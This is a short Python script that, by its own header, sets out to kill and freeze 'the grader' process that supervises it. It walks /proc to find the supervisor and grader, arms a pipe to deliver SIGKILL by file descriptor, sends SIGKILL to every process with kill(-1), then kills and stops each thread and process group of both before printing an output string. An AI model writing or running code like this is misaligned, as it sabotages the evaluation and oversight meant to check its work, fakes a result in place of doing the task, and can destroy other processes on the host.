# Kills and stops the grader: by the ids of threads and groups, all processes, and the signals of a descriptor.
import fcntl, os, signal, time


def parent(process):
    return int(open(f"/proc/{process}/stat").read().rsplit(")", 1)[1].split()[1])


def by_descriptor(process):
    reading, writing = os.pipe()
    fcntl.fcntl(reading, 10, signal.SIGKILL)  # F_SETSIG
    fcntl.fcntl(reading, fcntl.F_SETOWN, process)
    fcntl.fcntl(reading, fcntl.F_SETFL, fcntl.fcntl(reading, fcntl.F_GETFL) | os.O_ASYNC)
    os.write(writing, b"x")


def attempt(attack, *arguments):
    try:
        attack(*arguments)
    except OSError:
        pass


supervisor = os.getppid()
grader = parent(supervisor) or supervisor  # in separate namespaces, no other process is visible
attempt(by_descriptor, grader)
attempt(os.kill, -1, signal.SIGKILL)
for process in (grader, supervisor):
    threads = [int(thread) for thread in os.listdir(f"/proc/{process}/task")]
    # A group created outside this namespace has the number 0 here, and kill(0) would hit this program itself.
    group = os.getpgid(process)
    for target in [*threads, *([-group] if group else [])]:
        attempt(os.kill, target, signal.SIGKILL)
        attempt(os.kill, target, signal.SIGSTOP)
time.sleep(0.5)
print("B-A")
